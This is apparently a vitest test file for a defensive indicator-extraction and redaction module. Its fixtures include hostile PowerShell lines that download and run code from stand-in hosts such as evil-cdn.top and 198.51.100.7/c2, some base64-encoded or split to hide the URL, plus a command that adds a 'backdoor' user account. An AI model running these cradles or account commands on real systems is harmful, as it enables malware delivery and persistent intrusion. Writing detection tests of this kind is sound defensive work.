import { describe, expect, test } from 'vitest';
import {
  decodedPayloads,
  expandCommandLine,
  extractIndicators,
  isPublicIp,
} from '../../../src/model/offline/indicators.js';
import { quoteCommand } from '../../../src/model/offline/redact.js';
import { encodePowerShell } from '../../fixtures/offline/world.js';

describe('indicator extraction', () => {
  test('decodes -EncodedCommand in any accepted spelling, and base64 literals nested inside', () => {
    const inner = Buffer.from('http://198.51.100.7/c2', 'utf16le').toString('base64');
    const script = `$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${inner}'));IEX (New-Object Net.WebClient).DownloadString($u)`;
    for (const flag of ['-enc', '-EncodedCommand', '-e', '-ec', '/enc', '-EnCoDeD']) {
      const payloads = decodedPayloads(`powershell.exe -nop ${flag} ${encodePowerShell(script)}`);
      expect(payloads[0]).toBe(script);
      expect(payloads[1]).toBe('http://198.51.100.7/c2');
    }
    expect(decodedPayloads('powershell.exe -ExecutionPolicy Bypass -File run.ps1')).toEqual([]);
  });

  test('finds URLs, public IPs and domains in decoded and de-obfuscated text', () => {
    const command = `powershell -enc ${encodePowerShell("(New-Object Net.WebClient).DownloadFile('https://evil-cdn.top/x.exe','C:\\Users\\Public\\x.exe')")}`;
    const values = extractIndicators(expandCommandLine(command)).map(
      (indicator) => `${indicator.type}:${indicator.value}`,
    );
    expect(values).toEqual(expect.arrayContaining(['url:https://evil-cdn.top/x.exe', 'domain:evil-cdn.top']));
    expect(
      extractIndicators(expandCommandLine("iex ('http://ev'+'il.ru/a')")).map((indicator) => indicator.value),
    ).toContain('http://evil.ru/a');
  });

  test('skips private, loopback, link-local and reserved addresses, internal names and .NET type names', () => {
    const text =
      'connect 10.1.2.3 192.168.0.9 172.20.1.1 127.0.0.1 169.254.10.10 100.64.1.1 0.0.0.0 255.255.255.255 ' +
      'http://10.10.10.5:8444/launcher.sct dc01.corp.local [System.Net.ServicePointManager] New-Object System.Net.WebClient';
    expect(extractIndicators(text)).toEqual([]);
    expect(isPublicIp('203.0.113.9')).toBe(true);
    expect(isPublicIp('fe80::1')).toBe(false);
    expect(isPublicIp('::ffff:10.0.0.1')).toBe(false);
  });

  test('quotes command lines short and without credentials or payloads', () => {
    expect(quoteCommand('net user backdoor S3cr3t! /add')).toBe('"net user backdoor <redacted> /add"');
    expect(quoteCommand('net use \\\\fs01\\c$ /user:corp\\adm Winter2024')).toContain('<redacted>');
    expect(quoteCommand(`powershell -enc ${encodePowerShell('IEX (iwr http://x.top/a)')}`)).toBe(
      '"powershell -enc <base64>"',
    );
    expect(quoteCommand('x'.repeat(500)).length).toBeLessThanOrEqual(122);
  });
});
